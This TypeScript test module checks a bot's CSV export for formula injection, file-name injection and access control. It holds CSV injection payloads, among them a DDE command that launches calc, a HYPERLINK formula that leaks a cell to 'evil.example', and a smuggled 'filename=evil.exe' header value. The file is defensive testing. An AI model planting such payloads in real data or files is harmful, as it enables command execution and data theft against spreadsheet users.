import assert from "node:assert/strict";
import { until } from "../../support/until.ts";
import type { Arena } from "../arena.ts";
import { type Area, type Attack, forEach } from "../attack.ts";

/** Characters that begin a formula in some spreadsheet. */
const FORMULAS: Readonly<Record<string, string>> = {
  "an equals sign": "=1+1",
  "a plus sign": "+1+1",
  "a minus sign": "-1+1",
  "an at sign": "@SUM(1)",
  "a full-width equals sign": "＝1+1",
  "a full-width plus sign": "＋1",
  "a small plus sign": "﹢1",
  "a tab before": "\t=1+1",
  "a carriage return before": "\r=1+1",
  "a line break before": "\n=1+1",
  "a blank before": " =1+1",
  "a no-break space before": "\u00a0=1+1",
  "a zero-width space before": "\u200b=1+1",
  "a byte order mark before": "\ufeff=1+1",
  "a zero byte before": "\u0000=1+1",
  "a quotation mark before": '"=1+1',
  "an apostrophe before": "'=1+1",
  "a formula behind a semicolon": "x;=1+1;y",
  "a formula behind a semicolon and a blank": "x; =1+1;y",
  "a formula behind a tab": "x\t=1+1\ty",
  "a formula in a second line": "x\n=1+1\ny",
  "a formula behind a comma and a quotation mark": 'x",=1+1,"y',
  "a command": "=cmd|'/c calc'!A0",
  "a link": '=HYPERLINK("https://evil.example?"&A1,"x")',
  "a web query": '=WEBSERVICE("https://evil.example")',
  "a minus sign of mathematics": "\u2212 1",
};

/** The cells that a spreadsheet makes of a file, whatever it takes for its separator: a quotation mark counts at the start of a cell. */
function cellsOf(file: string, separator: string): readonly string[] {
  const cell = new RegExp(`"((?:[^"]|"")*)"[^${separator}\\r\\n]*|([^${separator}\\r\\n]*)`, "y");
  const cells: string[] = [];
  for (let at = 0; at <= file.length; at = cell.lastIndex + 1) {
    cell.lastIndex = at;
    const [, quoted, bare = ""] = cell.exec(file) ?? [];
    cells.push(quoted ?? bare);
  }
  return cells;
}

const FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u;

async function attacksOf(arena: Arena): Promise<readonly Attack[]> {
  const viewer = arena.person("viewer");
  let count = 0;

  async function exported(filter: string): Promise<{ readonly name: string; readonly content: string }> {
    const answer = await viewer.ask(`export ${filter}`);
    const file = await until(async () => {
      const [found] = (await viewer.fromBot(answer.roomId)).flatMap(({ created, files = [] }) =>
        created >= answer.created ? files : [],
      );
      if (found === undefined) throw new Error("There is no file yet.");
      return found;
    });
    const response = await fetch(file, { headers: { authorization: `Bearer ${viewer.token}` } });
    return { name: response.headers.get("content-disposition") ?? "", content: await response.text() };
  }

  return [
    ...forEach(FORMULAS, async (formula) => {
      count += 1;
      const externalId = `formula-${count}`;
      await arena.control("POST", "/customers", {
        externalId,
        name: formula,
        address: { addressLine1: formula, city: formula, country: formula },
        packages: { webex_calling: { status: "error", errors: [{ errorCode: 1, description: formula }] } },
      });
      await arena.waitForSweeps();
      const { content } = await exported(`externalId=${externalId}`);
      assert.match(content, new RegExp(externalId));
      for (const separator of [",", ";", "\t"]) {
        const formulas = cellsOf(content.replace(/^\ufeff/, ""), separator).filter((cell) => FORMULA.test(cell));
        assert.deepEqual(formulas, [], `Read with ${JSON.stringify(separator)} there are formulas.`);
      }
    }).map(({ name, run }) => ({ name: `a cell with ${name}`, run })),
    {
      name: "a file name out of the filter",
      async run() {
        const { name } = await exported('status!="../../x\\"; filename=evil.exe"');
        assert.match(name, /^attachment; filename="customers-\d{4}-\d\d-\d\d\.csv"$/);
      },
    },
    {
      name: "the file of an insider, read by an outsider, by another insider and without a token",
      async run() {
        const answer = await viewer.ask("export externalId=formula-1");
        const file = await until(async () => {
          const [found] = (await viewer.fromBot(answer.roomId)).flatMap(({ files = [] }) => files).slice(-1);
          if (found === undefined) throw new Error("There is no file yet.");
          return found;
        });
        for (const token of [arena.person("outsider").token, arena.person("viewer", 1).token, "none"]) {
          const { status } = await fetch(file, { headers: { authorization: `Bearer ${token}` } });
          assert.ok(status === 401 || status === 404, `It was answered ${status}.`);
        }
      },
    },
  ];
}

export const exportedFiles: Area = {
  name: "exports",
  judged: "the file, read with commas, semicolons or tabs, has no cell that begins a formula",
  attacks: attacksOf,
};
